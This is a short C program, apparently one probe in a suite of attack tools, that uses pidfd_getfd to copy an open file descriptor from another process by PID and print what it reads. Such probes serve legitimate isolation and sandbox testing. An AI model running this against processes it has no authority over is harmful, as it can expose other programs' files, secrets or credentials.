/* pidfd_getfd: take an fd out of another process: stealfd PID FD */
#include "attack.h"

int main(int argc, char **argv) {
    need(argc, 3, "stealfd PID FD");
    int pidfd = (int)syscall(SYS_pidfd_open, atoi(argv[1]), 0);
    if (pidfd < 0) { fail("pidfd_open"); return 1; }
    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, atoi(argv[2]), 0);
    if (fd < 0) { fail("pidfd_getfd"); return 1; }
    lseek(fd, 0, SEEK_SET);
    dump(fd);
    return 0;
}
